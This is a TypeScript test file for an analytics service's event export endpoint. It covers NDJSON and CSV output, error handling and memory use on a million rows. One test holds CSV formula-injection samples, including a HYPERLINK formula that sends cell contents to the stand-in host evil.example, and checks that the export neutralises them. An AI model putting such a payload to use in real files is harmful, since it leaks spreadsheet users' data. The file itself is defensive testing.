import { readFileSync } from 'node:fs';
import http from 'node:http';
import { describe, expect, it } from 'vitest';
import { STANDARD_DIMENSIONS } from '../../src/dimensions.js';
import { DAY_MS, HOUR_MS } from '../../src/time.js';
import { useTestApp } from '../helpers/app.js';
import { describeEachModeWithCitus, insertRawOnly, modeAvailable } from '../helpers/db.js';
import { startServer } from '../helpers/server.js';
import { daysAgo, isoDate } from '../helpers/time.js';

describeEachModeWithCitus('GET /v1/export', (mode) => {
  const t = useTestApp(mode);
  const day = daysAgo(5);
  /** An NDJSON export, its body as text (supertest parses only JSON bodies by itself). */
  const ndjson = (range: { from: string; to: string }) =>
    t.http
      .get('/v1/export')
      .query(range)
      .buffer(true)
      .parse((res, done) => {
        let text = '';
        res.on('data', (c: Buffer) => (text += c.toString()));
        res.on('end', () => done(null, text));
      });

  it('streams the events of a range, oldest first, as NDJSON or CSV with a filename', async () => {
    const res0 = await t.http.post('/v1/events').send({
      events: [
        { user: 'b', kind: 'click', time: new Date(day + 2 * HOUR_MS).toISOString(), page: '/a,"b"\nc', weight: 2, id: 'x1' },
        { user: 'a', kind: 'view', time: new Date(day + HOUR_MS).toISOString() },
        { user: 'z', kind: 'view', time: new Date(day + DAY_MS).toISOString() },
        { user: 'shop', kind: 'view', time: new Date(day + HOUR_MS).toISOString(), site: 'shop' },
      ],
    });
    expect(res0.body.accepted).toBe(4);
    const range = { from: isoDate(day), to: isoDate(day + DAY_MS) };
    const nd = await ndjson(range);
    expect(nd.status).toBe(200);
    expect(nd.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    expect(nd.headers['content-disposition']).toBe(
      `attachment; filename="headcount-default-${range.from.replaceAll('-', '')}T000000Z-${range.to.replaceAll('-', '')}T000000Z.ndjson"`,
    );
    const lines = (nd.body as string)
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(lines).toEqual([
      { time: new Date(day + HOUR_MS).toISOString(), site: 'default', kind: 'view', user: 'a', page: '', weight: 1, id: null },
      {
        time: new Date(day + 2 * HOUR_MS).toISOString(),
        site: 'default',
        kind: 'click',
        user: 'b',
        page: '/a,"b"\nc',
        weight: 2,
        id: 'x1',
      },
    ]);
    // An export can be sent back as it is: its events are duplicates where they carry ids.
    const back = await t.http.post('/v1/events').send({ events: lines });
    expect(back.body).toMatchObject({ accepted: 1, duplicates: 1 });

    const csv = await t.http.get('/v1/export').query({ ...range, format: 'csv', timezone: 'UTC' });
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toMatch(/\.csv"$/);
    // The dimensions and props follow (test/v1/dimensions.test.ts): empty here.
    const none = ','.repeat(STANDARD_DIMENSIONS.length + 1);
    expect(csv.text.split('\r\n').slice(0, 3)).toEqual([
      'time,site,kind,user,page,weight,id,referrer,utm_source,utm_medium,utm_campaign,utm_content,utm_term,country,device,browser,os,source,props',
      `${new Date(day + HOUR_MS).toISOString()},default,view,"a","",1,${none}`,
      `${new Date(day + HOUR_MS).toISOString()},default,view,"a","",1,${none}`,
    ]);
    expect(csv.text).toContain(`${new Date(day + 2 * HOUR_MS).toISOString()},default,click,"b","/a,""b""\nc",2,"x1"${none}\r\n`);
  });

  it("neutralises in CSV a cell a spreadsheet would run as a formula (prefix '), and keeps NDJSON verbatim", async () => {
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+2', '-2+3', '@SUM(A1)', '\tx', '\rx'];
    const time = new Date(day + 3 * HOUR_MS).toISOString();
    const res = await t.http.post('/v1/events').send({
      events: formulas.map((f, i) => ({ user: f, kind: 'view', time, page: f, id: `${f}${i}` })),
    });
    expect(res.body).toMatchObject({ accepted: formulas.length, rejected: [] });
    const range = { from: isoDate(day), to: isoDate(day + DAY_MS) };

    const csv = await t.http.get('/v1/export').query({ ...range, format: 'csv' });
    expect(csv.status).toBe(200);
    const quoted = (v: string) => `"'${v.replaceAll('"', '""')}"`;
    for (const [i, f] of formulas.entries()) {
      expect(csv.text).toContain(
        `${time},default,view,${quoted(f)},${quoted(f)},1,${quoted(`${f}${i}`)}${','.repeat(STANDARD_DIMENSIONS.length + 1)}\r\n`,
      );
    }
    // Only the first character counts: the same characters later in a value change nothing.
    await t.http.post('/v1/events').send({ events: [{ user: 'a=b', kind: 'view', time, page: '/x-y@z' }] });
    const again = await t.http.get('/v1/export').query({ ...range, format: 'csv' });
    expect(again.text).toContain(`${time},default,view,"a=b","/x-y@z",1,${','.repeat(STANDARD_DIMENSIONS.length + 1)}\r\n`);

    const nd = await ndjson(range);
    const users = (nd.body as string)
      .trimEnd()
      .split('\n')
      .map((l) => (JSON.parse(l) as { user: string }).user);
    expect(users).toEqual(expect.arrayContaining(formulas));
  });

  it('refuses a bad range with 400', async () => {
    const res = await t.http.get('/v1/export').query({ from: isoDate(day + DAY_MS), to: isoDate(day) });
    expect(res.status).toBe(400);
    const zone = await t.http
      .get('/v1/export')
      .query({ from: isoDate(day), to: isoDate(day + DAY_MS), timezone: 'Nowhere/Land' });
    expect(zone.status).toBe(400);
    expect(zone.body.error.details).toEqual([{ parameter: 'timezone', message: expect.stringMatching(/not a time zone/) }]);
    const format = await t.http.get('/v1/export').query({ from: isoDate(day), to: isoDate(day + DAY_MS), format: 'xml' });
    expect(format.status).toBe(400);
  });
});

// Memory is a property of the code path, the same in both modes: measured once, on the
// mode this run has (timescaledb when installed).
describe('GET /v1/export of 1,000,000 rows', () => {
  const mode = modeAvailable('timescaledb') ? 'timescaledb' : 'postgres';
  const t = useTestApp(mode, { resetEach: false });

  it('streams them in flat memory', { timeout: 120_000 }, async () => {
    const from = daysAgo(3);
    // Only the raw rows matter here: the aggregate trigger is skipped (replica role, which
    // takes a superuser: the service's role is none) to save time.
    await insertRawOnly(
      t.db,
      (tx) => tx`
        insert into events (site, time, kind, user_id, page, weight)
        select 'big', ${new Date(from)}::timestamptz + i * interval '100 ms', 'view', 'user-' || (i % 50000), '/page/' || (i % 100), 1
        from generate_series(0, 999999) i
      `,
    );
    // The service in a process of its own (as npm start runs it), so that only its memory
    // is measured: its resident set every 100,000 rows. The first sample is taken once the
    // stream is under way; flat means no growth with the other 900,000 rows.
    const server = await startServer({ DATABASE_URL: t.db.url, V1_AUTH: 'none' });
    const rssMb = () => Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${server.child.pid}/status`, 'utf8'))?.[1]) / 1024;
    try {
      const baseline = rssMb();
      const samples: number[] = [];
      let bytes = 0;
      let newlines = 0;
      const started = performance.now();
      const status = await new Promise<number>((resolve, reject) => {
        const query = new URLSearchParams({ site: 'big', from: isoDate(from), to: isoDate(from + 2 * DAY_MS) });
        http
          .get({ host: '127.0.0.1', port: server.port, path: `/v1/export?${query.toString()}` }, (res) => {
            // Count as it arrives; keep nothing.
            res.on('data', (chunk: Buffer) => {
              bytes += chunk.length;
              for (let i = chunk.indexOf(10); i !== -1; i = chunk.indexOf(10, i + 1)) {
                if (++newlines % 100_000 === 0) samples.push(rssMb());
              }
            });
            res.on('end', () => resolve(res.statusCode ?? 0));
            res.on('error', reject);
          })
          .on('error', reject);
      });
      const seconds = (performance.now() - started) / 1000;
      expect(status).toBe(200);
      expect(newlines).toBe(1_000_000);
      const peak = Math.max(...samples.slice(1));
      console.log(
        `export of 1,000,000 rows (${mode} mode): ${(bytes / 1e6).toFixed(1)} MB in ${seconds.toFixed(1)} s; the service's RSS ` +
          `${baseline.toFixed(0)} MB before, ${samples[0]!.toFixed(0)} MB at 100,000 rows, peak ${peak.toFixed(0)} MB over the next 900,000`,
      );
      expect(samples).toHaveLength(10);
      // Holding the body (~120 MB) or the rows would grow the service by at least that
      // much. What it does grow is garbage the collector has not yet taken back (no gc()
      // in another process): +34 MB on Node 20, +53 MB on Node 24.
      expect(peak - samples[0]!).toBeLessThan(80);
    } finally {
      server.child.kill('SIGTERM');
      await server.exited;
    }
  });
});
